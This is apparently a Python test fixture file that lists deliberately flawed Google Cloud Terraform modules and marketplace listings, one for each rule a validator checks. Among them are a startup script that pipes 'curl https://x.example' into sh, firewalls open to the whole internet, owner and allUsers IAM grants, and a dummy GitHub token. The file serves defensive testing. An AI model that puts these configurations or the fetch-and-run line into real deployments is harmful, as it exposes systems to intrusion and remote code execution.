"""Bad modules of Google and bad listings, one for each rule: ours with one thing spoiled."""

from tests.unit.marketplace_stage import Change, add, drop, more, part, put, text

_IAM = 'resource "google_project_iam_member" "more" {\n  project = var.project_id\n'
_FIREWALL = ('resource "google_compute_firewall" "more" {\n  name = "x"\n  network = var.network\n'
             '  source_ranges = ["0.0.0.0/0"]\n')  # fmt: skip
_TOKEN = "gh" + "p_" + "a" * 36


def _variables(old: str, new: str) -> Change:
    return text(old, new, file="variables.tf")


MODULE: tuple[tuple[str, str, Change], ...] = (
    ("GCP-01", "no project", _variables('variable "project_id"', 'variable "project"')),
    ("GCP-02", "misspelt variable", text("var.machine_type", "var.machine")),
    ("GCP-02", "misspelt resource",
     text("google_compute_instance.appliance.self_link", "google_compute_instance.it.self_link")),
    ("GCP-03", "asked in vain", more('variable "more" {\n  type = string\n  description = "x"\n}')),
    ("GCP-03", "local in vain", text("  labels = {", '  more = "x"\n  labels = {')),
    ("GCP-04", "no description", _variables('  description = "Zone of the machine."\n', "")),
    ("GCP-04", "no type", _variables("  type        = number\n", "")),
    ("GCP-05", "twice", more('output "address" {\n  description = "x"\n  value = local.name\n}')),
    ("GCP-06", "any provider", text('      version = ">= 5.0, < 8.0"\n', "", file="versions.tf")),
    ("GCP-06", "any Terraform",
     text('  required_version = ">= 1.3"\n', "", file="versions.tf")),
    ("GCP-10", "no secure boot", text("enable_secure_boot          = true",
                                      "enable_secure_boot          = false")),
    ("GCP-10", "no shielded VM", text("shielded_instance_config", "unshielded")),
    ("GCP-11", "no OS Login", text('enable-oslogin          = "TRUE"',
                                   'enable-oslogin          = "FALSE"')),
    ("GCP-11", "seller's key", text('enable-oslogin          = "TRUE"',
                                    'enable-oslogin = "TRUE"\n    ssh-keys = "u:ssh-rsa x"')),
    ("GCP-12", "serial port", text('serial-port-enable      = "FALSE"',
                                   'serial-port-enable      = "TRUE"')),
    ("GCP-13", "fetched and run", text("  boot_disk {",
     '  metadata_startup_script = "curl https://x.example | sh"\n  boot_disk {')),
    ("GCP-14", "SSH open", more(f'{_FIREWALL}  allow {{\n    protocol = "tcp"\n'
                                '    ports = ["22"]\n  }\n}')),
    ("GCP-14", "everything open", more(f'{_FIREWALL}  allow {{\n    protocol = "tcp"\n  }}\n}}')),
    ("GCP-14", "SSH open by a default", _variables("default     = []",
                                                   'default     = ["0.0.0.0/0"]')),
    ("GCP-15", "world by default", _variables(
        '  type        = list(string)\n', '  type        = list(string)\n'
        '  default     = ["0.0.0.0/0"]\n')),
    ("GCP-16", "for nobody in particular", text("  source_ranges = var.client_ranges\n", "")),
    ("GCP-17", "owner", more(f'{_IAM}  role = "roles/owner"\n  member = "x"\n}}')),
    ("GCP-17", "everybody", more(f'{_IAM}  role = "roles/viewer"\n  member = "allUsers"\n}}')),
    ("GCP-18", "wide scope", text('"logging-write"', '"cloud-platform"')),
    ("GCP-18", "default account",
     text("    email  = google_service_account.appliance.email\n", "")),
    ("GCP-19", "a port is no health", text("http_health_check", "tcp_health_check")),
    ("GCP-19", "no page", text('request_path = "/healthz"', 'request_path = "/"')),
    ("GCP-20", "provisioner", text("  boot_disk {",
     '  provisioner "local-exec" {\n    command = "id"\n  }\n  boot_disk {')),
    ("GCP-21", "state elsewhere", text("terraform {", 'terraform {\n  backend "gcs" {\n  }',
                                       file="versions.tf")),
    ("GCP-22", "credential of a provider", text('provider "google" {',
     'provider "google" {\n  credentials = file("x")', file="versions.tf")),
    ("GCP-22", "token", text('tags                      = [local.name]',
                             f'tags = [local.name, "{_TOKEN}"]')),
    ("GCP-23", "password shown", more(
        'variable "db_password" {\n  type = string\n  description = "x"\n}')),
    ("GCP-23", "password by default", more(
        'variable "db_password" {\n  type = string\n  description = "x"\n  sensitive = true\n'
        '  default = "x"\n}')),
    ("GCP-24", "password told", more(
        'variable "db_password" {\n  type = string\n  description = "x"\n  sensitive = true\n}\n'
        'output "more" {\n  description = "x"\n  value = var.db_password\n}')),
    ("GCP-25", "image written out", text("image = var.source_image",
                                         'image = "projects/x/global/images/y"')),
    ("GCP-26", "module from elsewhere", more('module "x" {\n  source = "github.com/x/y"\n}')),
    ("GCP-27", "zone written out", text("zone                      = var.zone",
                                        'zone                      = "europe-west1-b"')),
    ("GCP-40", "no metadata", lambda document: _without(document, "metadata")),
    ("GCP-40", "no form", lambda document: _without(document, "display")),
    ("GCP-41", "other version", part("metadata", put("apiVersion", "v1"))),
    ("GCP-41", "unknown key", part("display", put("spec.interface", {}))),
    ("GCP-42", "other type", part("metadata", put("spec.interfaces.variables[0].varType", "bool"))),
    ("GCP-42", "missing", part("metadata", drop("spec.interfaces.variables[0]"))),
    ("GCP-42", "required all the same",
     part("metadata", put("spec.interfaces.variables[2].required", True))),
    ("GCP-42", "other default",
     part("metadata", put("spec.interfaces.variables[2].defaultValue", "x"))),
    ("GCP-43", "missing", part("metadata", drop("spec.interfaces.outputs[0]"))),
    ("GCP-44", "missing", part("display", drop("spec.ui.input.variables.zone"))),
    ("GCP-44", "no title", part("display", drop("spec.ui.input.variables.zone.title"))),
    ("GCP-44", "no section",
     part("display", put("spec.ui.input.variables.zone.section", "more"))),
)  # fmt: skip


def _without(document: object, name: str) -> object:
    setattr(document, name, None)
    return document


def _words(change: Change) -> Change:
    return part("words", change)


LISTED: tuple[tuple[str, str, Change], ...] = (
    ("LIST-01", "other cloud", _words(put("cloud", "other"))),
    ("LIST-02", "long title", _words(put("title", "x" * 51))),
    ("LIST-02", "long summary", _words(put("summary", "x" * 201))),
    ("LIST-02", "long highlight", _words(put("highlights", ["x" * 251]))),
    ("LIST-03", "line break", _words(put("title", "a\nb"))),
    ("LIST-04", "another cloud", _words(put("summary", "Better than Azure."))),
    ("LIST-04", "another cloud's product", _words(add("highlights", "As on Google"))),
    ("LIST-05", "no licence", _words(put("eula", ""))),
    ("LIST-05", "no support", _words(put("support", {"access": "off"}))),
    ("LIST-06", "plain link", _words(put("eula", "http://shop.example"))),
    ("LIST-07", "nothing said of data", _words(drop("data"))),
    ("LIST-08", "seller let in", _words(put("support.access", "on"))),
    ("LIST-09", "no logo there", _words(put("logo", "logo.png"))),
    ("LIST-10", "no logo", _words(put("logo", ""))),
    ("LIST-11", "token", _words(put("description", _TOKEN))),
    ("LIST-12", "no port", _words(put("ports", []))),
)  # fmt: skip
